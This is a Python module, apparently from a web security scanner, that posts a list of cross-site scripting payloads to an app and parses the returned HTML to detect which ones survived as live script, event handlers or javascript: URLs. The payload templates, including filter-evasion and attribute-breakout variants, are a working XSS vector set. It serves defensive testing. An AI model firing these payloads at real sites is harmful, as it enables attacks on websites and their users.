"""Cross-site scripting (CWE-79): payloads, and how to tell that one survived into a page.

A payload only matters where a browser would run it: in a response served as HTML. Echoes in
JSON or text/plain answers are not XSS (`is_html`). Inside an HTML page the payload is looked for
with an HTML parser, not as a raw substring: escaped text (`&lt;script&gt;`) parses as text and
is harmless, while a payload that survived creates an element or attribute of its own. Each
vector carries a unique marker, and a vector counts as live when the parsed page holds

* a `<script>` element whose code is the vector's `alert(...)` call with its marker,
* an event-handler attribute (`on...`) whose code is that call, or
* a URL attribute (href, src, action, ...) holding a `javascript:` URL with the marker.

The app's own scripts and handlers do not match: their code is not the vector's call.

    vectors = xss_vectors()
    for v in vectors: app.post("/messages", json={"content": v.payload, ...})
    r = app.get("/messages", params={"limit": 100})
    for vector, how in live_vectors(r, vectors):
        yield Finding(CWE.XSS, f"{how}: {app.last_exchange()}")
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from html.parser import HTMLParser

import httpx

HTML_MEDIA_TYPES = ("text/html", "application/xhtml+xml", "image/svg+xml")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "background",
                  "poster", "srcdoc")


@dataclass(frozen=True)
class Vector:
    """One payload; `marker` (letters and digits only) appears in its `alert(...)` call."""

    name: str
    payload: str
    marker: str

    @property
    def call(self) -> str:
        return f"alert({self.marker})"


def _marker(prefix: str, i: int) -> str:
    return f"{prefix}{i}x"


# (name, template): {m} is the marker. `alert(m)` with a bare identifier keeps every payload free
# of quotes where they are not the point, so an app that escapes only quotes is still tested.
_TEMPLATES: tuple[tuple[str, str], ...] = (
    ("script-tag", "<script>alert({m})</script>"),
    ("img-onerror", "<img src=x onerror=alert({m})>"),
    ("svg-onload", "<svg onload=alert({m})>"),
    ("img-unterminated", "<img src=x onerror=alert({m}) "),
    ("details-ontoggle", "<details open ontoggle=alert({m})>"),
    ("mixed-case-script", "<ScRiPt>alert({m})</sCrIpT>"),
    ("nested-script-filter", "<scr<script>ipt>alert({m})</scr</script>ipt>"),
    ("break-double-quoted-attr", '"><img src=x onerror=alert({m})>'),
    ("event-in-double-quoted-attr", '" autofocus onfocus="alert({m})'),
    ("event-in-single-quoted-attr", "' autofocus onfocus='alert({m})"),
    ("event-in-unquoted-attr", "x autofocus onfocus=alert({m})"),
    ("close-textarea-title", "</textarea></title><script>alert({m})</script>"),
    ("javascript-url", "javascript:alert({m})"),
    ("iframe-javascript-src", "<iframe src=javascript:alert({m})></iframe>"),
)


def xss_vectors(prefix: str = "bxss") -> list[Vector]:
    """The payloads, each with its own marker `<prefix><n>x`. None contains a comma, so they
    survive inputs that the app splits on commas (e.g. a list of tags in a query string)."""
    return [Vector(name, t.format(m=_marker(prefix, i)), _marker(prefix, i))
            for i, (name, t) in enumerate(_TEMPLATES, 1)]


def media_type(response: httpx.Response) -> str:
    return response.headers.get("content-type", "").split(";")[0].strip().lower()


def is_html(response: httpx.Response) -> bool:
    """True if a browser would render the response as a page: an HTML (or SVG) media type, or
    no Content-Type at all (browsers sniff such answers)."""
    media = media_type(response)
    return media == "" or media in HTML_MEDIA_TYPES


_CONTROL = re.compile(r"[\x00-\x20]+")


class _Scanner(HTMLParser):
    # Elements whose content a browser reads as text up to their end tag: markup inside them
    # does not run (only a payload that closes them first does).
    CDATA_CONTENT_ELEMENTS = ("script", "style", "textarea", "title",  # type: ignore[misc]
                              "xmp", "iframe", "noembed", "noframes")

    def __init__(self, vectors: Sequence[Vector]) -> None:
        super().__init__(convert_charrefs=True)
        self._vectors = vectors
        self._in_script = False
        self._script = ""
        self.live: dict[str, tuple[Vector, str]] = {}

    def _hit(self, vector: Vector, how: str) -> None:
        self.live.setdefault(vector.name, (vector, how))

    def _code_matches(self, code: str, vector: Vector) -> bool:
        return _CONTROL.sub("", code).startswith(vector.call)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if not value:
                continue
            for v in self._vectors:
                if v.marker not in value:
                    continue
                if name.startswith("on") and self._code_matches(value, v):
                    self._hit(v, f"<{tag}> carries the event handler {name}={value[:80]!r}")
                elif name in URL_ATTRIBUTES and \
                        _CONTROL.sub("", value).lower().startswith("javascript:"):
                    self._hit(v, f"<{tag}> carries the URL {name}={value[:80]!r}")
        if tag == "script":
            self._in_script = True
            self._script = ""

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self._script += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._in_script:
            self._in_script = False
            for v in self._vectors:
                if self._code_matches(self._script, v):
                    self._hit(v, f"a <script> element runs {self._script.strip()[:80]!r}")


def live_in_html(html: str, vectors: Sequence[Vector]) -> list[tuple[Vector, str]]:
    """The vectors that survived as markup in `html`, each with what the parser found."""
    scanner = _Scanner(vectors)
    scanner.feed(html)
    scanner.close()
    if scanner._in_script:  # an unterminated script element still runs
        scanner.handle_endtag("script")
    return list(scanner.live.values())


def live_vectors(response: httpx.Response, vectors: Sequence[Vector]) -> list[tuple[Vector, str]]:
    """The vectors live in `response`: none unless it is served as HTML."""
    if not is_html(response):
        return []
    return live_in_html(response.text, vectors)


def describe(found: Iterable[tuple[Vector, str]], limit: int = 3) -> str:
    """A short text naming the live vectors and what proved each."""
    items = list(found)
    text = "; ".join(f"payload {v.payload!r} ({v.name}): {how}" for v, how in items[:limit])
    if len(items) > limit:
        text += f"; and {len(items) - limit} more"
    return text


class TextExtractor(HTMLParser):
    """The text a browser shows for a page (character references decoded), for functional
    tests that look for content without caring about markup or escaping."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def page_text(html: str) -> str:
    parser = TextExtractor()
    parser.feed(html)
    parser.close()
    return "".join(parser.parts)
